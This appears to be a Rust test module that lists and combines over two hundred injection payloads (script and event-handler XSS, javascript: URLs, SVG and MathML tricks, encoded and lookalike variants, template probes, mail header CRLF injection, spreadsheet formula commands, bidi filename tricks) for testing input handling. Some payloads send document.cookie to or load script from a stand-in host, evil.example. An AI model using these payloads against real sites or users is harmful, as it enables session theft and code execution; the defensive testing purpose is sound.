//! What somebody may type who wants a page, a mail or a header to do what they say. Written as data: classes of attack, and
//! what they are combined of.

/// Elements that run something, fetch something, or change how the rest is read. `{}` is where a deed goes.
const TAGS: [&str; 16] = [
    "<script>{}</script>",
    "<ScRiPt/x>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>{}",
    "<img src=x onerror={}>",
    "<img/src=`x`/onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc=\"<script>{}</script>\">",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<form action=//evil.example><button>{}",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<link rel=stylesheet href=//evil.example/x.css>{}",
    "<style>@import'//evil.example';</style>{}",
    "<object data=data:text/html,{}>",
];
/// What it is to do.
const DEEDS: [&str; 4] = [
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "eval(atob`YWxlcnQoMSk=`)",
    "top['al'+'ert'](1)",
];
/// Ways out of where a text stands: a value in quotes, a title, a text field, a comment, a style, a script.
const EXITS: [&str; 12] = [
    "\">",
    "'>",
    "\" ",
    "' ",
    "`>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "--><!-- -->",
    "]]>",
    "</style>",
    "</script>",
];
/// What is done once outside.
const OUTSIDE: [&str; 4] = [
    "<svg onload=alert(1)>",
    "onmouseover=alert(1) x=",
    "<img src=x onerror=alert(1)//",
    "autofocus tabindex=1 onfocus=alert(1) ",
];
/// Addresses that are deeds.
const ADDRESSES: [&str; 14] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "//evil.example/",
    "\\\\evil.example\\x",
    "https://desk.example.com@evil.example/",
    "<a href=javascript:alert(1)>tracking</a>",
];
/// Pictures and formulas with elements of their own.
const FOREIGN: [&str; 12] = [
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><s><template><s><img src=x onerror=alert(1)></s></template>",
];
/// Entities, whole and half, that must not be read once more.
const ENTITIES: [&str; 12] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060script>",
    "&LT;script&GT;",
    "&amp;lt;script&amp;gt;",
    "&quot;&gt;&lt;svg onload=alert(1)&gt;",
    "&#34;><b>",
    "&NewLine;&Tab;&colon;",
    "&lt",
    "&#",
    "%3Cscript%3Ealert(1)%3C/script%3E",
];
/// What the makers of pages and texts read as instructions.
const TEMPLATES: [&str; 14] = [
    "{{ 7*7 }}",
    "{{ reader.sign.name }}",
    "{% raw %}{% endraw %}",
    "{% include \"pages/base.html\" %}",
    "{# comment #}",
    "{$number}",
    "{ $number }",
    "{ -brand }",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
    "{0} {} {name} %s %n",
];
/// Letters that look like others, or are half of something.
const LOOKALIKES: [&str; 14] = [
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "﹤img src=x onerror=alert(1)﹥",
    "\u{00bc}script\u{00be}alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{fffd}<script>alert(1)</script>",
    "<\u{fffd}script>alert(1)",
    "<script\u{2028}>alert(1)</script>",
    "<scr\u{00ad}ipt>alert(1)</scr\u{00ad}ipt>",
    "ſcript <ſcript>alert(1)</ſcript>",
    "ＯＮＥＲＲＯＲ＝alert(1)",
    "\u{0130}mg <\u{0131}mg src=x onerror=alert(1)>",
    "\u{1f600}<b>\u{1f468}\u{200d}\u{1f469}",
    "\u{10ffff}<i>",
];
/// What ends a line of a header, or begins another.
const HEADERS: [&str; 12] = [
    "x\r\nBcc: victim@evil.example",
    "x\nBcc: victim@evil.example",
    "x\rSubject: other",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\r\nSet-Cookie: __Host-yinuo=1",
    "x\u{0085}Bcc: victim@evil.example",
    "x\u{2028}Bcc: victim@evil.example",
    "x%0d%0aLocation:%20//evil.example",
    "=?utf-8?q?=0d=0aBcc:_victim@evil.example?=",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "x\r\n.\r\nQUIT\r\n",
    "x\0<script>alert(1)</script>",
];
/// What a spreadsheet reckons with.
const FORMULAS: [&str; 12] = [
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1+1\",\"",
];
/// What turns text round or hides part of it.
const DIRECTIONS: [&str; 12] = [
    "\u{202e}gpj.exe",
    "\u{202d}x\u{202c}",
    "\u{2066}<b>\u{2069}",
    "\u{2067}x",
    "\u{2068}x",
    "\u{200f}x",
    "\u{200e}x",
    "\u{061c}x",
    "a\u{200b}b<i>",
    "\u{feff}<b>",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{7f}\u{8}\u{8}x",
];

/// All of them, each once: more than two hundred.
pub(super) fn vectors() -> Vec<String> {
    let mut all = Vec::new();
    for tag in TAGS {
        all.extend(DEEDS.iter().map(|deed| tag.replace("{}", deed)));
    }
    for exit in EXITS {
        all.extend(OUTSIDE.iter().map(|outside| format!("{exit}{outside}")));
    }
    let single = [
        &ADDRESSES[..],
        &FOREIGN,
        &ENTITIES,
        &TEMPLATES,
        &LOOKALIKES,
        &HEADERS,
        &FORMULAS,
        &DIRECTIONS,
    ];
    all.extend(single.into_iter().flatten().map(|text| (*text).to_owned()));
    all
}

/// The same text with everything harmless in the place of what could mean something: as long, refused for the same
/// reasons, shown in the same number of lines.
pub(super) fn harmless(vector: &str) -> String {
    let plain = |character: char| {
        if character.is_control() || character.is_whitespace() {
            character
        } else {
            'x'
        }
    };
    vector.chars().map(plain).collect()
}
